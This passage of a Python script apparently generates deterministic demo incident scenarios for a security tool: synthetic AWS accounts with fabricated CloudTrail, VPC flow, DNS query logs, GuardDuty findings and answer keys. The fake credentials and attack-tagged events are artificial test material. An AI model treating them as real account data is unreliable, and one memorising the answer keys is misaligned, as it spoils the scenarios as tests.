#!/usr/bin/env python3
"""Generate vigil's bundled demo scenarios into demo/<name>/.

Deterministic: every scenario has a fixed seed, gzip members carry mtime=0, JSON is written with a
fixed key order, so re-running produces byte-identical files. Standard library only (Python 3.11).

    python3 tools/demo-gen/gen_scenarios.py            # regenerate demo/ and self-check it
    python3 tools/demo-gen/gen_scenarios.py --out DIR  # write somewhere else
    python3 tools/demo-gen/check_scenarios.py          # the independent consistency check

Every scenario is a small AWS account (world.json) plus the evidence an incident leaves in it: GuardDuty
findings, CloudTrail S3 log files, VPC flow logs and Route 53 Resolver query logs, all in the formats
AWS writes. scenario.toml holds the timeline, the log slices, the finding groups (computed here with the
grouping rule of issue 2, section 3) and the answer key.
"""

from __future__ import annotations

import argparse
import datetime as dt
import gzip
import ipaddress
import json
import random
import shutil
import sys
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
DEFAULT_OUT = REPO / "demo"

# --------------------------------------------------------------------------------------------------
# time


def ts(s: str) -> int:
    """RFC3339 'YYYY-MM-DDTHH:MM:SSZ' -> epoch seconds."""
    return int(dt.datetime.strptime(s, "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=dt.timezone.utc).timestamp())


def utc(t: float) -> dt.datetime:
    return dt.datetime.fromtimestamp(int(t), tz=dt.timezone.utc)


def iso(t: float) -> str:
    return utc(t).strftime("%Y-%m-%dT%H:%M:%SZ")


def iso_ms(t_ms: int) -> str:
    return utc(t_ms // 1000).strftime("%Y-%m-%dT%H:%M:%S") + ".%03dZ" % (t_ms % 1000)


def java_date(t: float, comma: bool = False) -> str:
    """The Java-style dates CloudTrail puts in some responseElements: 'May 20, 2025 9:41:07 AM'."""
    d = utc(t)
    hour = d.hour % 12 or 12
    ampm = "AM" if d.hour < 12 else "PM"
    sep = ", " if comma else " "
    return f"{d.strftime('%b')} {d.day}, {d.year}{sep}{hour}:{d.minute:02d}:{d.second:02d} {ampm}"


# --------------------------------------------------------------------------------------------------
# deterministic ids

B32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
UPPER_ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
HEX = "0123456789abcdef"
ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


class Rng(random.Random):
    def hexs(self, n: int) -> str:
        return "".join(self.choice(HEX) for _ in range(n))

    def of(self, alphabet: str, n: int) -> str:
        return "".join(self.choice(alphabet) for _ in range(n))

    def uuid(self) -> str:
        h = list(self.hexs(32))
        h[12] = "4"
        h[16] = "89ab"[self.randrange(4)]
        s = "".join(h)
        return f"{s[0:8]}-{s[8:12]}-{s[12:16]}-{s[16:20]}-{s[20:32]}"

    def aws_id(self, prefix: str) -> str:
        """i-0…, eni-0…, vol-0…: the prefix, '0' and 16 hex (17 hex digits in all)."""
        return f"{prefix}-0{self.hexs(16)}"

    def akia(self) -> str:
        return "AKIA" + self.of(B32, 16)

    def asia(self) -> str:
        return "ASIA" + self.of(B32, 16)

    def principal(self, prefix: str) -> str:
        return prefix + self.of(B32, 17)

    def token(self) -> str:
        return "IQoJb3JpZ2luX2VjE" + self.of(ALNUM + "/+", 150) + "="

    def jitter(self, t: float, spread: float) -> int:
        return int(t + self.uniform(-spread, spread))


# --------------------------------------------------------------------------------------------------
# output helpers


def dumps_line(obj) -> str:
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


def write_bytes(path: Path, data: bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


def write_gz(path: Path, text: str) -> None:
    write_bytes(path, gzip.compress(text.encode("utf-8"), compresslevel=9, mtime=0))


def toml_str(s: str) -> str:
    return json.dumps(s, ensure_ascii=False)


def toml_val(v) -> str:
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, int):
        return str(v)
    if isinstance(v, float):
        return repr(float(v))
    if isinstance(v, str):
        return toml_str(v)
    if isinstance(v, dict):
        return "{ " + ", ".join(f"{k} = {toml_val(x)}" for k, x in v.items()) + " }"
    if isinstance(v, (list, tuple)):
        if not v:
            return "[]"
        if all(not isinstance(x, (dict, list)) for x in v) and sum(len(toml_val(x)) for x in v) < 70:
            return "[" + ", ".join(toml_val(x) for x in v) + "]"
        return "[\n" + "".join(f"  {toml_val(x)},\n" for x in v) + "]"
    raise TypeError(v)


NON_ROUTABLE_V4 = [ipaddress.ip_network(n) for n in
                   ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "127.0.0.0/8", "169.254.0.0/16", "0.0.0.0/32")]
NON_ROUTABLE_V6 = [ipaddress.ip_network(n) for n in ("::1/128", "::/128", "fe80::/10", "fc00::/7")]


def is_public_ip(s: str) -> bool:
    """vigil's linking rule (issue 2 section 3, Rust's is_private/is_loopback/is_link_local/is_unspecified):
    the documentation ranges 192.0.2.0/24, 198.51.100.0/24 and 203.0.113.0/24 DO link."""
    try:
        ip = ipaddress.ip_address(s)
    except ValueError:
        return False
    if ip.version == 4:
        return not any(ip in n for n in NON_ROUTABLE_V4)
    if ip.ipv4_mapped:
        return is_public_ip(str(ip.ipv4_mapped))
    return not any(ip in n for n in NON_ROUTABLE_V6)


# --------------------------------------------------------------------------------------------------
# geography of the remote addresses that appear in findings

AMAZON = dict(asn="14618", asnOrg="AMAZON-AES", isp="Amazon.com", org="Amazon.com")


def remote_ip_details(ip: str, geo: dict) -> dict:
    g = geo[ip]
    return {
        "ipAddressV4": ip,
        "organization": {"asn": g["asn"], "asnOrg": g["asnOrg"], "isp": g["isp"], "org": g["org"]},
        "country": {"countryName": g["country"]},
        "city": {"cityName": g["city"]},
        "geoLocation": {"lat": g["lat"], "lon": g["lon"]},
    }


def geo(asn, asn_org, isp, country, city, lat, lon, org=None):
    return dict(asn=asn, asnOrg=asn_org, isp=isp, org=org or isp, country=country, city=city, lat=lat, lon=lon)


# --------------------------------------------------------------------------------------------------
# the account: world.json


class World:
    def __init__(self, rng: Rng, account: str, region: str, regions: list[str]):
        self.rng = rng
        self.account = account
        self.region = region
        self.d = {
            "account_id": account,
            "region": region,
            "regions": regions,
            "vpcs": [],
            "subnets": [],
            "security_groups": [],
            "instances": [],
            "auto_scaling_groups": [],
            "load_balancers": [],
            "nat_gateways": [],
            "roles": [],
            "policies": [],
            "users": [],
            "temporary_credentials": [],
            "buckets": [],
            "sns_topics": [],
            "trails": [],
            "guardduty_detectors": [],
            "snapshots": [],
            "dns_firewall": {"rule_group_id": "rslvr-frg-" + rng.hexs(17), "domain_list_id": "rslvr-fdl-" + rng.hexs(17),
                             "domain_list_name": "vigil-blocklist", "action": "BLOCK", "domains": []},
        }
        self.inst = {}  # name -> instance dict
        self.sg = {}  # name -> sg dict
        self.subnet = {}  # name -> subnet dict
        self.vpc = {}  # name -> vpc dict
        self.role = {}  # name -> role dict
        self.user = {}  # name -> user dict
        self.detector = {}  # region -> detector id

    # network -------------------------------------------------------------------------------------
    def add_vpc(self, name, cidr, region=None, default=False):
        v = {"vpc_id": self.rng.aws_id("vpc"), "name": name, "cidr": cidr, "region": region or self.region,
             "is_default": default}
        self.d["vpcs"].append(v)
        self.vpc[name] = v
        return v

    def add_subnet(self, name, vpc, cidr, az, public):
        s = {"subnet_id": self.rng.aws_id("subnet"), "name": name, "vpc_id": self.vpc[vpc]["vpc_id"], "cidr": cidr,
             "availability_zone": az, "public": public, "region": self.vpc[vpc]["region"]}
        self.d["subnets"].append(s)
        self.subnet[name] = s
        return s

    def add_sg(self, name, vpc, description, ingress, egress=None):
        g = {"group_id": self.rng.aws_id("sg"), "group_name": name, "vpc_id": self.vpc[vpc]["vpc_id"],
             "description": description, "ingress": [], "egress": []}
        self.sg[name] = g
        self.d["security_groups"].append(g)
        g["ingress"] = [self._rule(r) for r in ingress]
        g["egress"] = [self._rule(r) for r in (egress if egress is not None else [("-1", None, None, "0.0.0.0/0", "all")])]
        return g

    def _rule(self, r):
        proto, lo, hi, src, desc = r
        rule = {"protocol": proto, "from_port": lo, "to_port": hi}
        if src.startswith("sg:"):
            rule["source_group"] = self.sg[src[3:]]["group_id"]
        else:
            rule["cidr"] = src
        rule["description"] = desc
        return rule

    def add_nat(self, subnet, private_ip, public_ip):
        n = {"nat_gateway_id": "nat-0" + self.rng.hexs(16), "subnet_id": self.subnet[subnet]["subnet_id"],
             "vpc_id": self.subnet[subnet]["vpc_id"], "eni_id": self.rng.aws_id("eni"), "private_ip": private_ip,
             "public_ip": public_ip}
        self.d["nat_gateways"].append(n)
        return n

    # identity ------------------------------------------------------------------------------------
    def add_role(self, name, path="/", instance_profile=False, trust="ec2.amazonaws.com", description=""):
        arn = f"arn:aws:iam::{self.account}:role{path}{name}"
        r = {"arn": arn, "name": name, "path": path, "role_id": self.rng.principal("AROA"),
             "instance_profile_arn": f"arn:aws:iam::{self.account}:instance-profile/{name}" if instance_profile else None,
             "instance_profile_id": self.rng.principal("AIPA") if instance_profile else None,
             "trusted": trust, "description": description}
        self.d["roles"].append(r)
        self.role[name] = r
        return r

    def add_user(self, name, created, keys=1, console=False, groups=(), policies=()):
        u = {"arn": f"arn:aws:iam::{self.account}:user/{name}", "name": name, "user_id": self.rng.principal("AIDA"),
             "created": created, "console_access": console, "groups": list(groups),
             "attached_policies": list(policies), "access_keys": []}
        for _ in range(keys):
            u["access_keys"].append({"access_key_id": self.rng.akia(), "status": "Active", "created": created})
        self.d["users"].append(u)
        self.user[name] = u
        return u

    def temp_cred(self, kind, principal_arn, issued, lifetime, role_arn=None, user_arn=None, instance_id=None):
        c = {"access_key_id": self.rng.asia(), "kind": kind, "principal_arn": principal_arn, "role_arn": role_arn,
             "user_arn": user_arn, "instance_id": instance_id, "issued_at": iso(issued),
             "expires_at": iso(issued + lifetime)}
        self.d["temporary_credentials"].append(c)
        return c

    # compute -------------------------------------------------------------------------------------
    def add_instance(self, name, itype, subnet, private_ip, sgs, public_ip=None, role=None, asg=None,
                     extra_enis=(), volumes=((("/dev/xvda", 30),)), launched="2025-01-01T00:00:00Z",
                     image="ami-0" + "0" * 16, imds="v2-required", tags=None, platform="Amazon Linux 2023"):
        sub = self.subnet[subnet]
        iid = self.rng.aws_id("i")
        enis = [{"eni_id": self.rng.aws_id("eni"), "device_index": 0, "private_ip": private_ip, "public_ip": public_ip,
                 "subnet_id": sub["subnet_id"], "security_groups": [self.sg[g]["group_id"] for g in sgs],
                 "mac": self._mac()}]
        for i, (esub, eip, esgs) in enumerate(extra_enis, start=1):
            enis.append({"eni_id": self.rng.aws_id("eni"), "device_index": i, "private_ip": eip, "public_ip": None,
                         "subnet_id": self.subnet[esub]["subnet_id"],
                         "security_groups": [self.sg[g]["group_id"] for g in esgs], "mac": self._mac()})
        vols = []
        for v in volumes:
            dev, size = v[0], v[1]
            vols.append({"volume_id": self.rng.aws_id("vol"), "device": dev, "size_gib": size, "volume_type": "gp3",
                         "encrypted": v[2] if len(v) > 2 else True})
        t = {"Name": name} if name else {}
        if asg:
            t["aws:autoscaling:groupName"] = asg
        t.update(tags or {})
        r = self.role[role] if role else None
        inst = {
            "instance_id": iid, "name": name, "instance_type": itype, "state": "running",
            "region": sub["region"], "availability_zone": sub["availability_zone"], "vpc_id": sub["vpc_id"],
            "subnet_id": sub["subnet_id"], "private_ip": private_ip, "public_ip": public_ip,
            "image_id": image, "platform": platform, "launch_time": launched, "imds": imds,
            "instance_profile_arn": r["instance_profile_arn"] if r else None, "role_arn": r["arn"] if r else None,
            "asg": asg, "tags": t, "enis": enis, "volumes": vols,
        }
        self.d["instances"].append(inst)
        return inst

    def _mac(self):
        return "0e:" + ":".join(self.rng.hexs(2) for _ in range(5))

    def add_asg(self, name, members, lo, hi, desired, launch_template, target_groups=()):
        a = {"name": name, "arn": f"arn:aws:autoscaling:{self.region}:{self.account}:autoScalingGroup:"
             f"{self.rng.uuid()}:autoScalingGroupName/{name}", "instances": [m["instance_id"] for m in members],
             "min": lo, "max": hi, "desired": desired, "launch_template": launch_template,
             "target_group_arns": list(target_groups)}
        self.d["auto_scaling_groups"].append(a)
        return a

    def detector_id(self, region):
        if region not in self.detector:
            self.detector[region] = self.rng.hexs(32)
            self.d["guardduty_detectors"].append({"region": region, "detector_id": self.detector[region]})
        return self.detector[region]

    def inst_by_id(self, iid):
        return next(i for i in self.d["instances"] if i["instance_id"] == iid)

    def to_json(self) -> str:
        return json.dumps(self.d, indent=2, ensure_ascii=False) + "\n"


def dns_name_private(ip, region):
    host = "ip-" + ip.replace(".", "-")
    return f"{host}.ec2.internal" if region == "us-east-1" else f"{host}.{region}.compute.internal"


def dns_name_public(ip, region):
    host = "ec2-" + ip.replace(".", "-")
    return f"{host}.compute-1.amazonaws.com" if region == "us-east-1" else f"{host}.{region}.compute.amazonaws.com"


# --------------------------------------------------------------------------------------------------
# CloudTrail


READ_PREFIXES = ("Describe", "Get", "List", "Lookup", "Head", "BatchGet", "Search", "Check")

GLOBAL_HOSTS = {"iam.amazonaws.com": "iam.amazonaws.com", "signin.amazonaws.com": "signin.aws.amazon.com"}


class Actor:
    """Somebody who calls AWS: produces the userIdentity, source IP and user agent of an event."""

    def __init__(self, kind, ip, ua, *, arn=None, name=None, principal_id=None, role=None, session=None,
                 creds=None, key=None, console=False, mfa=False, delivery=None, invoked_by=None, account=None,
                 session_created=None):
        self.kind = kind  # IAMUser | AssumedRole | Root | AWSService
        self.ip = ip  # str or callable(t)
        self.ua = ua
        self.arn = arn
        self.name = name
        self.principal_id = principal_id
        self.role = role  # world role dict (AssumedRole)
        self.session = session  # session name (AssumedRole)
        self.creds = creds or []  # [(issued_epoch, access_key_id)] for rotating temporary credentials
        self.key = key  # fixed access key id
        self.console = console
        self.mfa = mfa
        self.delivery = delivery
        self.invoked_by = invoked_by
        self.account = account
        self.session_created = session_created

    def source_ip(self, t):
        return self.ip(t) if callable(self.ip) else self.ip

    def cred_at(self, t):
        best = None
        for issued, key in self.creds:
            if issued <= t:
                best = (issued, key)
        if best is None:
            raise ValueError(f"no credentials for {self.arn} at {iso(t)}")
        return best

    def identity(self, t):
        acct = self.account
        if self.kind == "AWSService":
            return {"type": "AWSService", "invokedBy": self.invoked_by}
        if self.kind == "IAMUser":
            ident = {"type": "IAMUser", "principalId": self.principal_id, "arn": self.arn, "accountId": acct}
            if self.console:
                issued, key = self.cred_at(t)
                ident["accessKeyId"] = key
                ident["userName"] = self.name
                ident["sessionContext"] = {"sessionIssuer": {}, "webIdFederationData": {},
                                           "attributes": {"creationDate": iso(issued),
                                                          "mfaAuthenticated": "true" if self.mfa else "false"}}
            else:
                ident["accessKeyId"] = self.key
                ident["userName"] = self.name
            return ident
        if self.kind == "Root":
            issued, key = self.cred_at(t)
            return {"type": "Root", "principalId": acct, "arn": f"arn:aws:iam::{acct}:root", "accountId": acct,
                    "accessKeyId": key,
                    "sessionContext": {"sessionIssuer": {}, "webIdFederationData": {},
                                       "attributes": {"creationDate": iso(issued),
                                                      "mfaAuthenticated": "true" if self.mfa else "false"}}}
        if self.kind == "AssumedRole":
            if self.key:
                issued, key = self.session_created, self.key
            else:
                issued, key = self.cred_at(t)
            role = self.role
            sc = {"sessionIssuer": {"type": "Role", "principalId": role["role_id"], "arn": role["arn"],
                                    "accountId": acct, "userName": role["name"]},
                  "webIdFederationData": {},
                  "attributes": {"creationDate": iso(issued), "mfaAuthenticated": "false"}}
            if self.delivery:
                sc["ec2RoleDelivery"] = self.delivery
            return {"type": "AssumedRole", "principalId": f"{role['role_id']}:{self.session}",
                    "arn": f"arn:aws:sts::{acct}:assumed-role/{role['name']}/{self.session}",
                    "accountId": acct, "accessKeyId": key, "sessionContext": sc}
        raise ValueError(self.kind)

    def access_key(self, t):
        ident = self.identity(t)
        return ident.get("accessKeyId")


class Trail:
    def __init__(self, rng: Rng, world: World):
        self.rng = rng
        self.world = world
        self.account = world.account
        self.records: list[dict] = []
        self.attack_ids: set[str] = set()

    def host(self, service, region, bucket=None):
        if service in GLOBAL_HOSTS:
            return GLOBAL_HOSTS[service]
        svc = service.split(".")[0]
        if svc == "s3":
            return f"{bucket}.s3.{region}.amazonaws.com" if bucket else f"s3.{region}.amazonaws.com"
        if svc == "sts":
            return f"sts.{region}.amazonaws.com"
        if svc == "monitoring":
            return f"monitoring.{region}.amazonaws.com"
        return f"{svc}.{region}.amazonaws.com"

    def ev(self, t, who: Actor, service, name, region=None, req=None, resp=None, error=None, read_only=None,
           resources=None, data=False, version=None, extra=None, attack=False, event_type="AwsApiCall",
           shared=False, tls=True):
        region = region or self.world.region
        if service in ("iam.amazonaws.com", "signin.amazonaws.com"):
            region = "us-east-1"
        src = who.source_ip(t)
        rec = {"eventVersion": version or ("1.10" if service == "s3.amazonaws.com" else
                                           "1.09" if service in ("ec2.amazonaws.com", "sts.amazonaws.com")
                                           else "1.08"),
               "userIdentity": who.identity(t),
               "eventTime": iso(t),
               "eventSource": service,
               "eventName": name,
               "awsRegion": region,
               "sourceIPAddress": src,
               "userAgent": who.ua}
        if error:
            rec["errorCode"], rec["errorMessage"] = error
        rec["requestParameters"] = req
        rec["responseElements"] = resp
        if extra and "additionalEventData" in extra:
            rec["additionalEventData"] = extra["additionalEventData"]
        if service == "s3.amazonaws.com":
            rec["requestID"] = self.rng.of("0123456789ABCDEF", 16)
        else:
            rec["requestID"] = self.rng.uuid()
        rec["eventID"] = self.rng.uuid()
        if read_only is None:
            read_only = name.startswith(READ_PREFIXES)
        rec["readOnly"] = read_only
        if resources:
            rec["resources"] = resources
        rec["eventType"] = event_type
        rec["managementEvent"] = not data
        rec["recipientAccountId"] = self.account
        if shared:
            rec["sharedEventID"] = self.rng.uuid()
        rec["eventCategory"] = "Data" if data else "Management"
        if tls and who.kind != "AWSService":
            bucket = (req or {}).get("bucketName") if isinstance(req, dict) else None
            rec["tlsDetails"] = {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256",
                                 "clientProvidedHostHeader": self.host(service, region, bucket)}
        if who.kind == "IAMUser" and who.console:
            rec["sessionCredentialFromConsole"] = "true"
        self.records.append(rec)
        if attack:
            self.attack_ids.add(rec["eventID"])
        return rec

    def denied(self, who: Actor, t, action, resource=None, scp=False, ec2=False):
        arn = who.identity(t)["arn"]
        if ec2:
            return ("Client.UnauthorizedOperation",
                    f"You are not authorized to perform this operation. User: {arn} is not authorized to perform: "
                    f"{action} because no identity-based policy allows the {action} action")
        on = f" on resource: {resource}" if resource else ""
        why = "with an explicit deny in a service control policy" if scp else \
            f"because no identity-based policy allows the {action} action"
        return ("AccessDenied", f"User: {arn} is not authorized to perform: {action}{on} {why}")

    def write(self, root: Path, window=300) -> list[dict]:
        """S3 delivery: one .json.gz per region per 5-minute window, named as CloudTrail names them."""
        by_file: dict[tuple, list] = {}
        for r in self.records:
            t = ts(r["eventTime"])
            w = t - t % window
            by_file.setdefault((r["awsRegion"], w), []).append(r)
        slices = []
        for (region, w), recs in sorted(by_file.items()):
            recs.sort(key=lambda r: (r["eventTime"], r["eventID"]))
            delivered = utc(w + window + self.rng.randint(60, 300))
            d = utc(w)
            name = (f"{self.account}_CloudTrail_{region}_{delivered.strftime('%Y%m%dT%H%MZ')}_"
                    f"{self.rng.of(ALNUM, 16)}.json.gz")
            rel = Path("cloudtrail/AWSLogs") / self.account / "CloudTrail" / region / d.strftime("%Y/%m/%d") / name
            write_gz(root / rel, dumps_line({"Records": recs}) + "\n")
            slices.append({"path": rel.as_posix(), "kind": "cloudtrail", "from": recs[0]["eventTime"],
                           "to": recs[-1]["eventTime"], "records": len(recs)})
        return slices


def items(key, values):
    return {"items": [{key: v} for v in values]}


# --------------------------------------------------------------------------------------------------
# VPC flow logs

V2_FIELDS = "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status"
V5_FIELDS = ("version account-id vpc-id subnet-id instance-id interface-id type srcaddr dstaddr srcport dstport "
             "pkt-srcaddr pkt-dstaddr protocol packets bytes start end action tcp-flags log-status region az-id "
             "flow-direction traffic-path")

PROTO = {"tcp": 6, "udp": 17, "icmp": 1}


class Flows:
    """Flow log records of one flow log (one VPC, one format), written as hourly S3 .log.gz files."""

    def __init__(self, rng: Rng, world: World, vpc_name: str, fields: str, version: int, region: str, az_ids: dict):
        self.rng = rng
        self.world = world
        self.fields = fields.split()
        self.version = version
        self.region = region
        self.az_ids = az_ids  # availability zone -> az id
        self.flow_log_id = "fl-0" + rng.hexs(16)
        self.vpc = world.vpc[vpc_name]
        self.rows: list[tuple] = []  # (start, seq, dict)
        self.seq = 0
        self.limit = None  # records whose capture window starts at or after this are dropped

    def eni_info(self, eni_id):
        for inst in self.world.d["instances"]:
            for e in inst["enis"]:
                if e["eni_id"] == eni_id:
                    sub = next(s for s in self.world.d["subnets"] if s["subnet_id"] == e["subnet_id"])
                    return {"eni": eni_id, "instance": inst["instance_id"], "subnet": sub["subnet_id"],
                            "az": sub["availability_zone"], "ip": e["private_ip"]}
        for n in self.world.d["nat_gateways"]:
            if n["eni_id"] == eni_id:
                sub = next(s for s in self.world.d["subnets"] if s["subnet_id"] == n["subnet_id"])
                return {"eni": eni_id, "instance": None, "subnet": sub["subnet_id"], "az": sub["availability_zone"],
                        "ip": n["private_ip"]}
        for lb in self.world.d["load_balancers"]:
            for e in lb["enis"]:
                if e["eni_id"] == eni_id:
                    sub = next(s for s in self.world.d["subnets"] if s["subnet_id"] == e["subnet_id"])
                    return {"eni": eni_id, "instance": None, "subnet": sub["subnet_id"],
                            "az": sub["availability_zone"], "ip": e["private_ip"]}
        raise KeyError(eni_id)

    def row(self, eni, src, dst, sport, dport, proto, packets, nbytes, start, end, action="ACCEPT", flags=None,
            direction=None, pkt_src=None, pkt_dst=None, path=None):
        info = self.eni_info(eni) if isinstance(eni, str) else eni
        r = {"version": str(self.version), "account-id": self.world.account, "vpc-id": self.vpc["vpc_id"],
             "subnet-id": info["subnet"], "instance-id": info["instance"] or "-", "interface-id": info["eni"],
             "type": "IPv4", "srcaddr": src, "dstaddr": dst, "srcport": str(sport), "dstport": str(dport),
             "pkt-srcaddr": pkt_src or src, "pkt-dstaddr": pkt_dst or dst, "protocol": str(PROTO[proto]),
             "packets": str(packets), "bytes": str(nbytes), "start": str(int(start)), "end": str(int(end)),
             "action": action, "tcp-flags": str(flags if flags is not None else (0 if proto != "tcp" else 3)),
             "log-status": "OK", "region": self.region, "az-id": self.az_ids[info["az"]],
             "flow-direction": direction or "-", "traffic-path": path or "-"}
        self.rows.append((int(start), self.seq, r))
        self.seq += 1

    def nodata(self, eni, start, end):
        info = self.eni_info(eni)
        r = {k: "-" for k in self.fields}
        r.update({"version": str(self.version), "account-id": self.world.account, "interface-id": eni,
                  "start": str(int(start)), "end": str(int(end)), "log-status": "NODATA"})
        if "vpc-id" in self.fields:
            r.update({"vpc-id": self.vpc["vpc_id"], "subnet-id": info["subnet"],
                      "instance-id": info["instance"] or "-", "region": self.region,
                      "az-id": self.az_ids[info["az"]]})
        self.rows.append((int(start), self.seq, r))
        self.seq += 1

    def conn(self, eni, local, remote, lport, rport, proto, t, dur=2, out=(5, 600), back=(4, 1800),
             outbound=True, action="ACCEPT", window=60, nat=None, remote_pkt=None):
        """One connection seen on `eni`: an egress and an ingress record per aggregation window.
        `outbound` says who opened it. `nat` = (nat_eni, nat_private_ip) adds the NAT gateway's four
        records (as in the AWS NAT gateway example) for a private instance talking to the internet."""
        t = int(t)
        end_all = t + max(1, int(dur))
        if self.limit is not None:
            end_all = min(end_all, self.limit - 1)
        windows = []
        s = t
        while s < end_all:
            e = min(end_all, s - s % window + window)
            windows.append((s, e))
            s = e
        n = len(windows)
        for i, (s, e) in enumerate(windows):
            po, bo = max(1, out[0] // n), max(40, out[1] // n)
            pb, bb = max(1, back[0] // n), max(40, back[1] // n)
            cap_s, cap_e = s - s % window, s - s % window + window
            f_out = 2 if (outbound and i == 0) else 0
            f_in = 18 if (outbound and i == 0) else 0
            if not outbound and i == 0:
                f_out, f_in = 18, 2
            if i == n - 1:
                f_out |= 1
                f_in |= 1
            if proto != "tcp":
                f_out = f_in = 0
            path_out = "8" if nat is None else "1"
            if action == "REJECT":
                # only the initiator's packets exist
                if outbound:
                    self.row(eni, local, remote, lport, rport, proto, po, bo, cap_s, cap_e, action, 2, "egress",
                             path=path_out)
                else:
                    self.row(eni, remote, local, rport, lport, proto, pb, bb, cap_s, cap_e, action, 2, "ingress")
                continue
            self.row(eni, local, remote, lport, rport, proto, po, bo, cap_s, cap_e, action, f_out, "egress",
                     path=path_out)
            self.row(eni, remote, local, rport, lport, proto, pb, bb, cap_s, cap_e, action, f_in, "ingress")
            if nat:
                nat_eni, nat_ip = nat
                nport = self.rng.randint(1024, 65000)
                self.row(nat_eni, local, nat_ip, lport, rport, proto, po, bo, cap_s, cap_e, action, f_out,
                         "ingress", pkt_src=local, pkt_dst=remote)
                self.row(nat_eni, nat_ip, remote, nport, rport, proto, po, bo, cap_s, cap_e, action, f_out,
                         "egress", pkt_src=nat_ip, pkt_dst=remote, path="8")
                self.row(nat_eni, remote, nat_ip, rport, nport, proto, pb, bb, cap_s, cap_e, action, f_in,
                         "ingress", pkt_src=remote, pkt_dst=nat_ip)
                self.row(nat_eni, nat_ip, local, rport, lport, proto, pb, bb, cap_s, cap_e, action, f_in,
                         "egress", pkt_src=remote, pkt_dst=local, path="1")

    def write(self, root: Path, start: int, end: int) -> list[dict]:
        by_hour: dict[int, list] = {}
        for s, seq, r in sorted(self.rows, key=lambda x: (x[0], x[1])):
            if not (start <= s < end):
                raise ValueError(f"flow record outside the scenario: {iso(s)}")
            by_hour.setdefault(s - s % 3600, []).append(r)
        slices = []
        acct = self.world.account
        for h, rows in sorted(by_hour.items()):
            d = utc(h)
            stamp = utc(h + 3600 + 300).strftime("%Y%m%dT%H%MZ")
            name = f"{acct}_vpcflowlogs_{self.region}_{self.flow_log_id}_{stamp}_{self.rng.hexs(8)}.log.gz"
            rel = Path("flowlogs/AWSLogs") / acct / "vpcflowlogs" / self.region / d.strftime("%Y/%m/%d") / name
            lines = [" ".join(self.fields)] + [" ".join(r[k] for k in self.fields) for r in rows]
            write_gz(root / rel, "\n".join(lines) + "\n")
            starts = [int(r["start"]) for r in rows]
            ends = [int(r["end"]) for r in rows]
            slices.append({"path": rel.as_posix(), "kind": "flows", "from": iso(min(starts)), "to": iso(max(ends)),
                           "records": len(rows)})
        return slices


# --------------------------------------------------------------------------------------------------
# Route 53 Resolver query logs


class Dns:
    def __init__(self, rng: Rng, world: World, vpc_name: str, region: str):
        self.rng = rng
        self.world = world
        self.vpc = world.vpc[vpc_name]
        self.region = region
        self.recs: list[tuple] = []
        self.seq = 0

    def q(self, t, inst, name, qtype="A", rcode="NOERROR", answers=()):
        if not name.endswith("."):
            name += "."
        ans = []
        for a in answers:
            if isinstance(a, tuple):
                typ, rdata = a
            else:
                typ, rdata = qtype, a
            ans.append({"Rdata": rdata, "Type": typ, "Class": "IN"})
        rec = {"version": "1.100000", "account_id": self.world.account, "region": self.region,
               "vpc_id": self.vpc["vpc_id"], "query_timestamp": iso(t), "query_name": name, "query_type": qtype,
               "query_class": "IN", "rcode": rcode, "answers": ans, "srcaddr": inst["private_ip"],
               "srcport": str(self.rng.randint(1025, 65535)), "transport": "UDP",
               "srcids": {"instance": inst["instance_id"]}}
        self.recs.append((int(t), self.seq, rec))
        self.seq += 1

    def write(self, root: Path, start: int, end: int, plain_name: str | None = None) -> list[dict]:
        recs = sorted(self.recs, key=lambda x: (x[0], x[1]))
        for t, _, _ in recs:
            if not (start <= t < end):
                raise ValueError(f"dns record outside the scenario: {iso(t)}")
        acct = self.world.account
        vpc = self.vpc["vpc_id"]
        if plain_name:
            rel = Path("dns") / plain_name
            write_bytes(root / rel, ("\n".join(dumps_line(r) for _, _, r in recs) + "\n").encode())
            return [{"path": rel.as_posix(), "kind": "dns", "from": recs[0][2]["query_timestamp"],
                     "to": recs[-1][2]["query_timestamp"], "records": len(recs)}]
        by_hour: dict[int, list] = {}
        for t, _, r in recs:
            by_hour.setdefault(t - t % 3600, []).append(r)
        slices = []
        for h, rows in sorted(by_hour.items()):
            d = utc(h)
            stamp = utc(h + 3600 + 240).strftime("%Y%m%dT%H%MZ")
            name = f"{vpc}_vpcdnsquerylogs_{acct}_{stamp}_{self.rng.hexs(8)}.log.gz"
            rel = Path("dns/AWSLogs") / acct / "vpcdnsquerylogs" / vpc / d.strftime("%Y/%m/%d") / name
            write_gz(root / rel, "\n".join(dumps_line(r) for r in rows) + "\n")
            slices.append({"path": rel.as_posix(), "kind": "dns", "from": rows[0]["query_timestamp"],
                           "to": rows[-1]["query_timestamp"], "records": len(rows)})
        return slices


# --------------------------------------------------------------------------------------------------
# GuardDuty findings


class GuardDuty:
    def __init__(self, rng: Rng, world: World, geo_table: dict):
        self.rng = rng
        self.world = world
        self.geo = geo_table
        self.end = None
        self.findings: list[tuple[dict, dict]] = []  # (finding, meta)

    def instance_details(self, inst):
        region = inst["region"]
        nics = []
        for e in inst["enis"]:
            nic = {"ipv6Addresses": [], "networkInterfaceId": e["eni_id"],
                   "privateDnsName": dns_name_private(e["private_ip"], region), "privateIpAddress": e["private_ip"],
                   "privateIpAddresses": [{"privateDnsName": dns_name_private(e["private_ip"], region),
                                           "privateIpAddress": e["private_ip"]}],
                   "subnetId": e["subnet_id"], "vpcId": inst["vpc_id"],
                   "securityGroups": [{"groupName": self._sg_name(g), "groupId": g} for g in e["security_groups"]],
                   "publicDnsName": dns_name_public(e["public_ip"], region) if e["public_ip"] else ""}
            if e["public_ip"]:
                nic["publicIp"] = e["public_ip"]
            nics.append(nic)
        d = {"instanceId": inst["instance_id"], "instanceType": inst["instance_type"],
             "launchTime": inst["launch_time"].replace("Z", ".000Z"), "platform": None, "productCodes": []}
        if inst["instance_profile_arn"]:
